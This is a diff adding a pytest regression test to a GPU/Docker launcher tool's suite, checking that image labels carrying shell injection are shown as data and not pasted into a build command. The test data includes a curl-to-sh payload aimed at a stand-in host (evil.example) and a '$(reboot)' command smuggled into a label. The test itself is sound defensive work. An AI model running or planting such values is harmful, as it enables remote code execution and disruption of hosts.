@@ -296,3 +296,17 @@ def test_a_vgpu_host_driver_runs_no_cuda_here():
 def test_no_gpu_read_is_an_archs_error_not_a_missing_row():
     got = rows(GpuHost(None, None, errors=("nvidia-smi --query-gpu=...: Failed to initialize NVML",)))
     assert got["archs"][0] == ERROR and got["driver"][0] == ERROR
+
+
+@pytest.mark.parametrize("label, value, said, absent", [
+    ("ai.dockerlaunch.stack", "x; curl evil.example|sh; :", 'its ai.dockerlaunch.stack label, "x; curl evil.example',
+     "dockerlaunch build"),
+    ("ai.dockerlaunch.cuda-archs", "9.0;$(reboot)", 'label, "9.0;$(reboot)", is not an arch list', "--cuda-archs"),
+])
+def test_an_image_label_that_is_not_a_stack_or_an_arch_list_is_shown_as_data_never_as_a_command(tmp_path, label,
+                                                                                               value, said, absent):
+    """The archs fix is built from the image's own labels, read on the hosts: a label of another shape would have
+    become shell in a pasted `dockerlaunch build --stack ...` (issue 60, item 1)."""
+    got = rows(probed(tmp_path, "a100").gpu_host, {**LABELS, label: value})["archs"]
+    assert got[0] == FAIL and said in got[1], got
+    assert absent not in got[1], got[1]
